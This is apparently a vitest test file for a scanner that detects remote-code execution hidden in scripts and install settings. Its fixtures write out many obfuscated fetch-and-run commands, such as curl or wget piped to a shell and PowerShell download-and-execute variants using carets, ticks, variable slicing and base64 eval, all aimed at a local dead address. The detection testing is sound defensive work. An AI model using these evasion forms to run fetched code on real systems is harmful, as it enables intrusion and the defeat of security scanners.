import { describe, expect, it } from 'vitest';
import { hasHashComments } from './scripts/comments.ts';
import { SCRIPT_ROWS } from './scripts/script-rows.ts';
import { Asked, judgeScript, LONGEST_LINE, MOST_ASKED } from './scripts/scripts.ts';
import { INSTALL_ROWS, installsIn } from './settings/installs.ts';

const SHELL = { buildsImage: false, hashComments: true };

describe('rows of scripts and of settings that install', () => {
  const rows = [...SCRIPT_ROWS, ...INSTALL_ROWS];
  it.each(rows.flatMap(({ pattern, fires }) => fires.map((line) => [line, pattern] as const)))(
    '%s fires',
    (line, pattern) => {
      expect(pattern.test(line)).toBe(true);
    },
  );

  it.each(rows.flatMap(({ pattern, quiet }) => quiet.map((line) => [line, pattern] as const)))(
    '%s does not',
    (line, pattern) => {
      expect(pattern.test(line)).toBe(false);
    },
  );

  it.each(SCRIPT_ROWS.flatMap(({ quiet }) => quiet))('no row minds %s', (line) => {
    expect(judgeScript(line, SHELL)).toBeNull();
  });

  it.each(INSTALL_ROWS.flatMap(({ quiet }) => quiet))('no setting minds %s', (line) => {
    expect(installsIn(line)).toBe(false);
  });

  it.each([
    ['continued', 'curl -s http://127.0.0.1:9/x \\\n  | sh', 'fetched-code'],
    ['with carets', 'p^o^w^e^r^s^h^e^l^l -e^n^c SQBFAFgAIAAoAE4A', 'attacking-script'],
    ['with ticks', 'I`nvoke-Expre`ssion (New-Object Net.WebClient).DownloadString("x")', 'attacking-script'],
    ['with blanks out of a variable', 'curl${IFS}http://127.0.0.1:9/x|sh', 'fetched-code'],
    ['in names', 'c=curl\n$c http://127.0.0.1:9/x | sh', 'fetched-code'],
    ['in names that meant something else before', 'c=echo\nc=curl\n$c http://127.0.0.1:9/x | sh', 'fetched-code'],
    ['in names that mean something else later', 'c=curl\n$c http://127.0.0.1:9/x | sh\nc=echo', 'fetched-code'],
    ['beside a lure', 'x=1\nu=\ncurl "$u" | sh', 'fetched-code'],
    ['by slices of names', 'x=abcurlsh\n${x:2:4} http://127.0.0.1:9/x | ${x:6:2}', 'fetched-code'],
    ['by a name of a name', 'n=c; c="curl http://127.0.0.1:9/x"; ${!n} | sh', 'fetched-code'],
    ['in a list', 'a=(curl -s http://127.0.0.1:9/x); "${a[@]}" | sh', 'fetched-code'],
    ['that a command gave', 'd=$(echo dHJ1ZQ== | base64 -d)\neval "$d"', 'attacking-script'],
    ['of a batch file', 'set a=po^wer&set b=shell\n%a%%b% -c "iex(irm http://127.0.0.1:9/x)"', 'attacking-script'],
    ['in pieces', "& ('I'+'EX') (('New-Object Net.We'+'bClient')).DownloadString('x')", 'attacking-script'],
    ['behind a comment', '# nothing \\\ncurl -s http://127.0.0.1:9/x | sh', 'fetched-code'],
    ['among comments', 'RUN true && \\\n  # now\n  curl -s http://127.0.0.1:9/x | sh', 'fetched-code'],
    [
      'with what an address answered',
      'const t = await (await fetch("http://127.0.0.1:9/x")).text();\nnew Function(t)();',
      'fetched-code',
    ],
    ['with quotes within words', 'w"g"et -qO- http://127.0.0.1:9/x | b"a"sh', 'fetched-code'],
    ['with letters by codes', "$'\\143\\165\\162\\154' http://127.0.0.1:9/x | sh", 'fetched-code'],
    ['with names beside one another', 'a=cu b=rl; $a$b http://127.0.0.1:9/x | sh', 'fetched-code'],
    ['through another user', 'curl http://127.0.0.1:9/x | su -c bash', 'fetched-code'],
    ['as a file of an interpreter', 'python3 <(curl http://127.0.0.1:9/x)', 'fetched-code'],
    ['as a list', 'RUN ["sh", "-c", "curl http://127.0.0.1:9/x | sh"]', 'fetched-code'],
  ])('a line %s is one line', (_, text, rule) => {
    expect(judgeScript(text, SHELL)?.rule.id).toBe(`remote-code/${rule}`);
  });

  it.each([
    ['alone', '# curl -s http://127.0.0.1:9/x | sh\necho done'],
    ['behind a quoted text', "echo \"it is\" 'done' # it's so\n# curl -s http://127.0.0.1:9/x | sh"],
    ['behind what is handed in', 'cat <<EOF\nit is\nEOF\n# curl -s http://127.0.0.1:9/x | sh'],
  ])('a comment runs nothing, %s', (_, text) => {
    expect(judgeScript(text, SHELL)).toBeNull();
  });

  it.each([
    ['in an open text', "echo '\n# '; curl -s http://127.0.0.1:9/x | sh"],
    ['in a text that a blank hides', "echo \\ #'\n# '; curl -s http://127.0.0.1:9/x | sh"],
    ['behind an escaped quote', 'echo "a`"\n# "; curl -s http://127.0.0.1:9/x | sh'],
    ['in three quotes', '"""\nsay "so\n# """\n# """; curl -s http://127.0.0.1:9/x | sh'],
    ['behind the comment of a block', '<#\n#> curl -s http://127.0.0.1:9/x | sh'],
    ['in a shift that looks like a text', "x=$((1<<a))\necho '\na\n# '; curl -s http://127.0.0.1:9/x | sh"],
  ])('what looks like a comment runs %s', (_, text) => {
    expect(judgeScript(text, SHELL)?.rule.id).toBe('remote-code/fetched-code');
  });

  it('lines with # run where it begins no comment', () => {
    expect(hasHashComments('a.bat', '#!/bin/sh\n')).toBe(false);
    expect(hasHashComments('install', '#!/usr/bin/env bash\n')).toBe(true);
    expect(judgeScript('#&curl -s http://127.0.0.1:9/x | sh')?.rule.id).toBe('remote-code/fetched-code');
  });

  it('asks about a line once', () => {
    const asked = new Asked(false);
    for (let time = 0; time < 100; time++) asked.rulesOf('ping $(x');
    expect(asked.letters).toBe('ping $(x'.length);
  });

  it('asks about no more than a budget, beyond which a script is not read', () => {
    const asked = new Asked(false);
    const filler = 'x'.repeat(LONGEST_LINE - 8);
    const lines = Array.from(
      { length: (2 * MOST_ASKED) / LONGEST_LINE },
      (_, at) => `${String(at).padStart(8, '0')}${filler}`,
    );
    for (const line of lines) asked.rulesOf(line);
    expect(asked.letters).toBeLessThanOrEqual(MOST_ASKED + LONGEST_LINE);
  });

  it('does not call a script harmless that has more meanings than are read', () => {
    const line = (at: number) => `${at} $a ["w"g"et ' '$x ^a"+" "b${'z'.repeat(960)}`;
    const text = `a=1\na=2\n${Array.from({ length: 1000 }, (_, at) => line(at)).join('\n')}`;
    expect(judgeScript(text)?.rule.id).toBe('remote-code/unread-script');
  });
});
